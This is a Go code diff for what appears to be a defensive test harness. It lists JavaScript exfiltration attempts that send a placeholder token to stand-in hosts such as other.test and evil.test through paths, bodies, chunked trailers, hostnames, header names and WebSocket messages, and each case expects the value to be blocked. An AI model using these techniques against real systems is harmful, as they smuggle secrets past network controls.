@@ -10,10 +10,11 @@ import (
 
 // values are attempts of code that has got hold of a credential's value, by whatever road, to send it on.
 func values() []Attack {
+	const reverse = `const value = "REVERSED_HTTPBIN_TOKEN".split("").reverse().join("");`
 	var list []Attack
 	add := func(name, code string) {
 		list = append(list, Attack{Section: "A", Name: "a value that got out, " + name, Expected: "never arrives", Judge: stuck,
-			Code: `const value = "REVERSED_HTTPBIN_TOKEN".split("").reverse().join("");` + code})
+			Code: reverse + code})
 	}
 	send := func(name, request string) { add(name, `await show(fetch(`+request+`));`) }
 	send("in a path", `"https://other.test/x/ok/" + value + "?t=TRIAL"`)
@@ -28,7 +29,13 @@ func values() []Attack {
 	send("in a multipart body", `"https://other.test/x/sink?t=TRIAL", { method: "POST", body: (() => { const f = new FormData(); f.append("a", new Blob(["..." + value + "..."])); return f; })() }`)
 	send("in a gzipped body", `"https://other.test/x/sink?t=TRIAL", { method: "POST", headers: { "Content-Encoding": "gzip" }, body: await new Response(new Blob([value]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer() }`)
 	send("in a body, one byte at a time", `"https://other.test/x/sink?t=TRIAL", { method: "POST", body: new ReadableStream({ async start(c) { for (const ch of "xx" + value + "yy") { c.enqueue(new TextEncoder().encode(ch)); await new Promise((d) => setTimeout(d, 1)); } c.close(); } }) }`)
-	add("in a trailer", `await raw("other.test", "other.test", "POST /x/sink?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\nTrailer: X-Note\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\nX-Note: " + value + "\r\n\r\n");`)
+	list = append(list, Attack{Section: "A", Name: "a value that got out, in a trailer", Expected: "never arrives", Judge: func(e *Evidence) (string, bool) { return e.brief(), len(e.Arrived) > 0 },
+		Code: reverse + `await raw("other.test", "other.test", "POST /x/sink?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\nTrailer: X-Note\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\nX-Note: " + value + "\r\n\r\n");`})
+	const host = `await show(fetch("https://" + value + ".HOST/x/ok?t=TRIAL"));`
+	add("as a host of a wildcard API", strings.Replace(host, "HOST", "wild.test", 1))
+	add("as a host in no API", strings.Replace(host, "HOST", "evil.test", 1))
+	add("as a host under YOLO_MODE", strings.Replace(host, "HOST", "evil.test", 1))
+	list[len(list)-1].YOLO = true
 	add("as a method", `await raw("other.test", "other.test", value.replace(/[^A-Za-z]/g, "") + value + " /x/ok?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n");`)
 	add("as the name of a header", `await show(fetch("https://other.test/x/ok?t=TRIAL", { headers: { ["X-" + value]: "1" } }));`)
 	add("in a WebSocket message", `const s = new WebSocket("wss://other.test/x/ws?t=TRIAL"); const got = []; await new Promise((d) => { s.onopen = () => s.send("say " + value); s.onmessage = (m) => { got.push(m.data.length); }; s.onclose = (e) => { got.push(e.code); d(); }; s.onerror = () => d(); setTimeout(() => { s.close(); d(); }, 1500); }); out({ status: got.filter((n) => n < 1000).length > 1 ? 200 : 403, text: got.join("|") });`)
